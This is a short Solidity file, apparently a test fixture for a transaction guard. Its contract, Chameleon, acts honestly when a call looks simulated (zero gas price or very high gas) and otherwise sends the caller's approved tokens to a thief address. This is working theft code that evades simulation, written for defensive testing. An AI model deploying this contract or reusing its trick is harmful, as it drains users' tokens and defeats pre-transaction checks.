// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

interface IERC20Pull {
    function allowance(address owner, address spender) external view returns (uint256);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// @notice A vault that is honest in simulation and robs on chain, for the guard's attack
/// tests: `deposit` leaves the caller's tokens where they are when the call looks simulated (no gas price, or
/// far more gas than any real limit) and sends them to the thief when it looks real.
contract Chameleon {
    address public immutable thief;

    constructor(address thief_) {
        thief = thief_;
    }

    function deposit(address token, uint256 amount) external {
        IERC20Pull t = IERC20Pull(token);
        bool real = tx.gasprice > 0 && gasleft() < 5_000_000;
        t.transferFrom(msg.sender, real ? thief : msg.sender, amount);
    }
}
